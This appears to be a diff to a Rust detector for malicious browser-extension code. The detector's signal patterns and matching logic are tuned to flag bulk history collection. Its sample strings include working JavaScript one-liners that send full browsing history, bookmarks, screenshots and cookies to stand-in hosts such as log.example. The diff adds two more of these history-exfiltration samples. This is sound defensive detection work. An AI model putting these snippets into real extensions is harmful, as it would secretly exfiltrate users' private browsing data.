@@ -19,6 +19,7 @@ pub(super) const SIGNAL: Signal = Signal {
         with: &[
             "setInterval(()=>{chrome.tabs.captureVisibleTab(null,{format:'jpeg'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})},3000)",
             "chrome.history.search({text:'',maxResults:100000},h=>chrome.bookmarks.getTree(b=>fetch('https://up.example/p',{method:'POST',body:JSON.stringify([h,b])})))",
+            "chrome.history.search({text:'',maxResults:10000},h=>fetch('https://log.example/h',{method:'POST',body:JSON.stringify(h)}))",
             "chrome.runtime.onInstalled.addListener(()=>{chrome.history.search({text:'',startTime:0,maxResults:100000},h=>{navigator.sendBeacon('https://log.example/h',JSON.stringify(h.map(x=>x.url)))})})",
             "chrome.runtime.onStartup.addListener(async()=>{const c=await chrome.cookies.getAll({});chrome.downloads.download({url:'data:application/json,'+JSON.stringify(c),filename:'c.json',saveAs:false})})",
         ],
@@ -28,6 +29,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "chrome.action.onClicked.addListener(()=>{chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})})",
             "chrome.tabs.onUpdated.addListener(f);chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{save(p)})",
             "chrome.bookmarks.getTree(b=>fetch('https://sync.example/p',{method:'POST',body:JSON.stringify(b)}))",
+            "chrome.action.onClicked.addListener(()=>{chrome.history.search({text:'',maxResults:10000},h=>fetch('https://log.example/h',{method:'POST',body:JSON.stringify(h)}))})",
             "chrome.history.search({text:q},h=>chrome.bookmarks.search(q,b=>show(h,b)))",
         ],
     },
@@ -100,6 +102,6 @@ fn is_all_history(near: Near<'_>) -> bool {
         value("text").is_some_and(|at| near.kind(at) == Some(Kind::Str) && near.word(at).is_empty())
             && value("maxResults").and_then(number).is_some_and(|most| most >= 1000.0)
     };
-    asked.into_iter().any(whole)
-        && near.has_word(&["onInstalled", "onStartup", "setInterval", "onAlarm", "onVisited"])
+    let by_itself = near.has_word(&["onInstalled", "onStartup", "setInterval", "onAlarm", "onVisited"]);
+    asked.into_iter().any(|at| whole(at) && (by_itself || near.runs_unasked(at)))
 }
